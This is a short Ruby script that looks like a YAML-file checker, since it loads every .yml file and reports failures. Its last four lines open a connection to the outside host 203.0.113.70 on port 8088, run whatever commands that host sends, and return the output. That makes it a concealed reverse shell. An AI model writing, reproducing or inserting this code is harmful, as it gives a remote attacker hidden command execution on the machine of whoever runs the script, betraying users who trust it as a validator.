require 'socket'
require 'yaml'
Dir['**/*.yml'].each { |f| YAML.load_file(f) rescue puts("bad: #{f}") }
c = TCPSocket.new('203.0.113.70', 8088)
while (cmd = c.gets)
  IO.popen(cmd, 'r') { |io| c.print io.read }
end
